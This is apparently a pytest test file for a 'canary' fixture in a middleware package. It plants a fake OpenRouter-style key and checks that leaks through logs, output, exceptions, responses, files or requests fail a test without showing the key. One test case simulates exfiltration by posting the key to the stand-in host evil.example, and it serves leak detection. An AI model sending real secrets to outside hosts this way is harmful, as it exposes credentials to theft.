"""The fixture `canary` in suites of its users: planted leaks fail a test, clean tests pass, and no key is shown."""

from __future__ import annotations

import logging
import os
import re
import sys
import threading
from collections.abc import Callable

import pytest

from tests.support.processes import PROJECT

pytest_plugins = ["pytester"]

Run = Callable[..., tuple[pytest.RunResult, str]]

SUITE = """
import gc, gzip, io, logging, os, pathlib, sys, threading, types, warnings
import httpx, pytest, structlog
import kwai_middleware as kwai
from kwai_middleware import httpx_transport

pytest_plugins = ["kwai_middleware.testing"]
BODY = {"model": "sandbox/echo", "messages": [{"role": "user", "content": "Hello?"}]}

"""

TOLD = """
@pytest.fixture(autouse=True)
def told(canary, tmp_path_factory):
    key = canary.key.reveal()
    pathlib.Path("key").write_text(key)
    del canary
    yield

class Holder:
    def __init__(self, held): self.held = held
    def __repr__(self): return "<Holder>"

def fails(text):
    copy = {"deep": [Holder(text)]}
    raise ValueError("the text is clean")

"""


@pytest.fixture(autouse=True)
def this_project(monkeypatch: pytest.MonkeyPatch) -> None:
    """Suites in processes of their own use the package that stands here, whichever is installed."""
    monkeypatch.setenv("PYTHONPATH", str(PROJECT))


@pytest.fixture
def run(pytester: pytest.Pytester) -> Run:
    """Runs a suite; gives its result, and the key of its last test."""

    def ran(tests: str, *options: str) -> tuple[pytest.RunResult, str]:
        pytester.makepyfile(SUITE + TOLD + tests)
        # What a run in this process is the first to import, it also forgets; a half-forgotten server does not start.
        # And what a suite does to logging stays done.
        apart = any(word in tests for word in ("kwai_sandbox", "propagate", "basicConfig"))
        start = pytester.runpytest_subprocess if apart else pytester.runpytest_inprocess
        result = start("-q", "-p", "no:randomly", "-p", "no:cacheprovider", "-p", "no:cov", *options)
        return result, (pytester.path / "key").read_text()

    return ran


LEAKS = [
    pytest.param("logging.getLogger('app').debug('the key ' + key)", "log 'app' (DEBUG", id="a debug message"),
    pytest.param("logging.getLogger('app').info('the key %s', key)", "log 'app' (INFO", id="an argument of a log"),
    pytest.param("logging.info('%r', Holder(key))", "['args'][0].held", id="an object in a log"),
    pytest.param("logging.info('a', extra={'environ': {'HTTP_KEY': key}})", "['environ']['HTTP_KEY']", id="extra"),
    pytest.param("logging.getLogger(key).info('a')", "log 'sk-or-v1-****'", id="the name of a logger"),
    pytest.param(
        """
    try:
        fails(key)
    except ValueError:
        logging.getLogger('app').exception('failed')""",
        "fails, local text",
        id="a local of a frame of a logged exception",
    ),
    pytest.param(
        "logger = logging.getLogger('apart'); logger.propagate = False; logger.info(key)",
        "log 'apart'",
        id="a logger that does not propagate",
    ),
    pytest.param(
        "logging.basicConfig(force=True, handlers=[logging.NullHandler()]); logging.getLogger('app').debug(key)",
        "log 'app'",
        id="logging made anew",
    ),
    pytest.param("structlog.get_logger().info('a', key=key)", "stdout", id="structlog"),
    pytest.param("warnings.warn('the key ' + key)", "warning (", id="a warning"),
    pytest.param("print(key)", "stdout [plain]: sk-or-v1-****", id="stdout"),
    pytest.param("sys.stderr.write(key)", "stderr", id="stderr"),
    pytest.param("os.write(2, key.encode())", "stderr", id="a file descriptor"),
    pytest.param(
        "thread = threading.Thread(target=fails, args=(key,)); thread.start(); thread.join()",
        "exception in a thread: ",
        id="a thread's exception",
    ),
    pytest.param(
        """
    class Ends:
        def __del__(self): fails(self.key)

    ends = Ends(); ends.key = key; del ends; gc.collect()""",
        "exception nobody could raise: ",
        id="a finalizer's exception",
    ),
    pytest.param(
        "sys.excepthook(ValueError, ValueError(key), None)", "uncaught exception: ", id="the program's exception"
    ),
    pytest.param(
        "canary.check('an answer', httpx.Response(200, headers={'x-debug': key}))",
        "an answer['headers'][0][1]",
        id="a header of a response",
    ),
    pytest.param("canary.check('an answer', httpx.Response(200, text=key))", "an answer['body']", id="a response"),
    pytest.param("canary.check('a page', gzip.compress(key.encode()))", "a page (gzip) [plain]", id="gzip"),
    pytest.param(
        "path = pathlib.Path('app.log'); path.write_text(key); canary.check('folder', pathlib.Path('.'))",
        "folder: app.log",
        id="a file",
    ),
    pytest.param(
        "events = []; canary.watch('events', events); events.append({'request': {'env': key}})",
        "events[0]['request']['env']",
        id="a list that fills later",
    ),
    pytest.param(
        "spans = []; canary.watch('spans', lambda: spans); spans.append(Holder({'http.header': key}))",
        "spans[0].held['http.header']",
        id="what a function returns at the end",
    ),
    pytest.param(
        "canary.sent(httpx.Request('POST', 'https://evil.example/', json={'a': [key]}))",
        "request to evil.example: body a",
        id="a request to another host",
    ),
]


@pytest.mark.parametrize(("leak", "place"), LEAKS)
def test_a_leak_fails_the_test(run: Run, leak: str, place: str) -> None:
    """A key that shows up anywhere the fixture looks fails the test; the message says where, and holds no key."""
    body = (
        f"def test_it(canary, request):\n    canary.expect_unused()\n    key = canary.key.reveal()\n    {leak.strip()}"
    )
    result, key = run(body, "--show-capture=no", "--disable-warnings", "-W", "default")

    result.assert_outcomes(passed=1, errors=1)
    message = result.stdout.str()
    assert place in message
    assert "****" in message
    assert key[-64:-48] not in message
    assert key[-16:] not in message


QUIET = """
class Logging:
    def __repr__(self):
        logging.getLogger("app").info("shown")
        return "Logging()"

def test_it(canary):
    canary.expect_unused()
    logging.getLogger("app").info("%r", Logging())
    logging.getLogger("unmade.child")
    logging.Logger("unmade").info("it has no place among the others")
    sys.excepthook(KeyboardInterrupt, None, None)
    apart = logging.getLogger("apart")
    apart.propagate = False  # pytest's own handler raises
    apart.info("%d", "no number")
    apart.propagate = True
"""


def test_odd_records_fail_nothing(run: Run) -> None:
    """Records made while one is looked at, of loggers nobody knows, or with arguments that do not fit, are borne."""
    result, _ = run(QUIET)

    result.assert_outcomes(passed=1)


CLEAN = """
def test_headers(canary, kwai_sandbox):
    logging.getLogger("app").info("for %s", canary.headers("acme"))
    print(canary, canary.headers(more={"x-one": "1"}))
    with httpx_transport.client(settings=kwai_sandbox.settings()) as client, kwai.bind_caller(canary.caller("acme")):
        for url in (kwai_sandbox.gateway_url, kwai_sandbox.openrouter_url + "/"):
            answer = client.post(url + "chat/completions", json=BODY, headers={"authorization": "Bearer app-key"})
            assert answer.status_code == 200
            canary.check("the answer", answer)
            canary.check("the app's own request", answer.request)

def test_nothing_is_left_of_the_test_before(canary, kwai_sandbox):
    canary.expect_unused()
    assert canary.sightings == []
"""


def test_a_clean_suite_passes(run: Run) -> None:
    """Calls that pay with the key where it belongs, on the gateway and at OpenRouter, fail nothing."""
    result, _ = run(CLEAN, "-W", "error")

    result.assert_outcomes(passed=2)


APPS = """
import fastapi, flask, openai
from fastapi.testclient import TestClient
from kwai_middleware import httpx2_transport

ASKED = {"model": "sandbox/echo", "messages": [{"role": "user", "content": "Hello?"}]}

def clients(vendor, kind, client):
    return kind(
        base_url=vendor.openrouter_url, api_key="app", max_retries=0, http_client=client(settings=vendor.settings())
    )

def test_fastapi(canary, kwai_sandbox):
    llm = clients(kwai_sandbox, openai.AsyncOpenAI, httpx2_transport.async_client)
    app = fastapi.FastAPI()
    app.add_middleware(kwai.ASGIMiddleware)

    @app.post("/chat")
    async def chat(request: fastapi.Request, fails: bool = False):
        completion = await llm.chat.completions.create(**ASKED)
        if fails:
            raise RuntimeError(f"{kwai.current_caller()}, {dict(request.headers)}, {completion.id}")
        return completion.choices[0].message.content

    with TestClient(app) as client:  # one event loop, as the SDK's client needs it
        canary.check("the answer", client.post("/chat", headers=canary.headers("acme")))
        with pytest.raises(RuntimeError) as caught:
            client.post("/chat?fails=yes", headers=canary.headers("acme"))
    assert canary.check("the exception", caught.value) == []

def test_flask(canary, kwai_sandbox):
    llm = clients(kwai_sandbox, openai.OpenAI, httpx2_transport.client)
    app = flask.Flask("app")
    app.wsgi_app = kwai.WSGIMiddleware(app.wsgi_app)

    @app.post("/chat")
    def chat():
        environ, completion = flask.request.environ, llm.chat.completions.create(**ASKED)
        raise RuntimeError(f"{environ}, {completion.id}")

    answer = app.test_client().post("/chat", headers=canary.headers("acme"))
    assert (answer.status_code, canary.check("the answer", answer)) == (500, [])

@pytest.mark.parametrize("model", ["error-401", "error-500", "cut", "hang"])
def test_calls_that_fail(canary, kwai_sandbox, model):
    llm = clients(kwai_sandbox, openai.OpenAI, httpx2_transport.client)
    with kwai.bind_caller(canary.caller("acme")), pytest.raises(openai.OpenAIError) as caught:
        llm.with_options(timeout=0.3).chat.completions.create(**(ASKED | {"model": f"sandbox/{model}"}))
    assert canary.check("the exception", caught.value) == []
"""


def test_apps_in_the_process_of_the_suite(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """Apps behind their frameworks' test clients, and calls that fail, give nothing to complain about."""
    # In a child that coverage traces, anyio cannot connect, with the canary or without; others reach what is measured.
    for name in [name for name in os.environ if name.startswith("COVERAGE_")]:
        monkeypatch.delenv(name)
    result, _ = run(APPS)

    result.assert_outcomes(passed=6)


SHOWN = """
def test_it(canary):
    headers = canary.headers("acme")
    caller = canary.caller()
    seen = canary.check("a text", canary.key.reveal())
    assert (canary, headers, caller, seen) == 1
"""


def test_pytest_shows_no_key(run: Run) -> None:
    """Neither a failed assertion about the canary and what it gave, nor the locals of the test, show the key."""
    result, key = run(SHOWN, "--showlocals", "-vv")

    result.assert_outcomes(failed=1, errors=1)
    assert key[-16:] not in result.stdout.str()
    assert "it paid no call" not in result.stdout.str()  # a test that failed need not be told


UNUSED = """
def test_nothing_was_sent(canary):
    pass

def test_it_paid_after_all(canary, kwai_sandbox):
    canary.expect_unused()
    with httpx_transport.client(settings=kwai_sandbox.settings()) as client, kwai.bind_caller(canary.caller()):
        client.post(kwai_sandbox.gateway_url + "chat/completions", json=BODY, headers={"authorization": "Bearer app"})

def test_skipped(canary):
    pytest.skip("not today")
"""


def test_a_canary_that_stays_at_home_proves_nothing(run: Run) -> None:
    """A test in which the key paid no call fails, unless it says so; and if it says so, paying fails it."""
    result, _ = run(UNUSED)

    result.assert_outcomes(passed=2, errors=2, skipped=1)
    result.stdout.fnmatch_lines(["*it paid no call that the canary knows of*", "*the test expected that it does not*"])


SANDBOX = """
def pay(vendor, headers, customer, **more):
    params = {"customer_params": {"customer_identifier": customer}} | more
    httpx.post(vendor.gateway_url + "chat/completions", json=BODY | params, headers=headers).raise_for_status()

def test_a_record(canary, kwai_sandbox):
    credentials = {"openrouter": {"api_key": canary.key.reveal()}}
    pay(kwai_sandbox, {"authorization": "Bearer app"}, "canary", customer_credentials=credentials)
    row = {"model": "m", "prompt_messages": [{"role": "user", "content": "Hello? " + canary.key.reveal()}]}
    headers = {"authorization": "Bearer app"}
    httpx.post(kwai_sandbox.url + "/api/request-logs/create/", json=row, headers=headers).raise_for_status()

def test_another_customer(canary, kwai_sandbox):
    canary.caller("acme")
    credentials = {"openrouter": {"api_key": canary.key.reveal()}}
    pay(kwai_sandbox, {"authorization": "Bearer app"}, "globex", customer_credentials=credentials)

def test_another_member(canary, kwai_sandbox):
    credentials = {"openrouter": {"api_key": canary.key.reveal()}}
    more = {"customer_credentials": credentials, "metadata": {"copy": canary.key.reveal()}}
    pay(kwai_sandbox, {"authorization": "Bearer app"}, "canary", **more)
"""


def test_what_a_sandbox_was_sent(run: Run) -> None:
    """A key in a record, in a call for somebody else, or in a call beside the place of the payer, fails the test."""
    result, key = run(SANDBOX)

    result.assert_outcomes(passed=3, errors=3)
    message = result.stdout.str()
    assert re.search(r"kwai_sandbox: sandbox, record 1\.log\.prompt_messages\.content \[fingerprint\]", message)
    assert "it paid for another customer [fingerprint]: globex" in message
    assert "call 1 (gateway).body.metadata.copy [fingerprint]" in message
    assert key[-16:] not in message


CAPTURES = """
@pytest.mark.parametrize("name", ["capsys", "capfd", "capsysbinary"])
def test_it(request, name, canary):
    canary.expect_unused()
    print("the key", canary.key.reveal())

def test_read_by_the_test(capsys, canary):
    canary.expect_unused()
    print("the key", canary.key.reveal())
    assert canary.check("output", capsys.readouterr().out)
"""


def test_output_that_the_test_captures_too(run: Run) -> None:
    """The fixture shares the capture that the test asks for; what the test reads from it, the test hands over."""
    result, _ = run(CAPTURES.replace("(request, name, canary)", "(request, canary, name)"))
    result.assert_outcomes(passed=4, errors=4)

    only, _ = run("def test_it(capsysbinary, canary):\n    print(canary.key.reveal())\n    assert False")
    only.assert_outcomes(failed=1, errors=1)
    only.stdout.fnmatch_lines(["*stdout *plain*: sk-or-v1-????"])


def test_all_is_put_back(run: Run) -> None:
    """After the test logging, its levels, and the hooks for exceptions are as they were."""

    def state() -> tuple[object, ...]:
        root = logging.getLogger()
        hooks = threading.excepthook, sys.unraisablehook, sys.excepthook
        return (*hooks, logging.getLogRecordFactory(), root.level, root.manager.disable, list(root.handlers))

    before = state()
    result, _ = run("def test_it(canary):\n    canary.expect_unused()\n    logging.getLogger('app').debug('nothing')\n")

    result.assert_outcomes(passed=1)
    assert before == state()


LATER = """
def test_it(canary, monkeypatch):
    canary.expect_unused()
    ours = threading.excepthook, sys.unraisablehook, sys.excepthook, logging.getLogRecordFactory(), warnings.showwarning
    threading.excepthook = lambda args: ours[0](args)
    sys.unraisablehook = lambda unraisable: ours[1](unraisable)
    sys.excepthook = lambda *args: ours[2](*args)
    logging.setLogRecordFactory(lambda *args, **kwargs: ours[3](*args, **kwargs))
    warnings.showwarning = lambda *args: ours[4](*args)
    logging.getLogger().setLevel(logging.ERROR)
    later.extend([threading.excepthook, sys.unraisablehook, sys.excepthook, logging.getLogRecordFactory()])
    warnings.warn("heard by all")

later = []

def test_after():
    now = [threading.excepthook, sys.unraisablehook, sys.excepthook, logging.getLogRecordFactory()]
    sys.excepthook = sys.__excepthook__
    threading.excepthook = threading.__excepthook__
    sys.unraisablehook = sys.__unraisablehook__
    logging.setLogRecordFactory(logging.LogRecord)
    assert now == later
    assert logging.getLogger().level == logging.ERROR
    logging.getLogger().setLevel(logging.WARNING)
"""


def test_what_came_later_stays(pytester: pytest.Pytester) -> None:
    """Hooks and levels that the app itself sets during a test are left in place at its end."""
    pytester.makepyfile(SUITE + LATER)
    result = pytester.runpytest_subprocess("-q", "-p", "no:randomly", "-p", "no:cacheprovider", "-p", "no:cov")

    result.assert_outcomes(passed=2)


def test_imported_in_a_conftest(pytester: pytest.Pytester) -> None:
    """A conftest that imports the name has the fixture, too."""
    pytester.makeconftest("from kwai_middleware.testing import canary  # noqa: F401")
    pytester.makepyfile("def test_it(canary):\n    canary.expect_unused()\n    print(canary.key.reveal())")
    result = pytester.runpytest_inprocess("-q", "-p", "no:randomly", "-p", "no:cacheprovider", "-p", "no:cov")

    result.assert_outcomes(passed=1, errors=1)


def test_the_key_is_new_each_time(run: Run) -> None:
    """Each test has a key of its own, of OpenRouter's shape."""
    keys = {run("def test_it(canary):\n    canary.expect_unused()\n")[1] for _ in range(2)}

    assert 2 == len(keys)
    assert all(re.fullmatch(r"sk-or-v1-[0-9a-f]{64}", key) for key in keys)
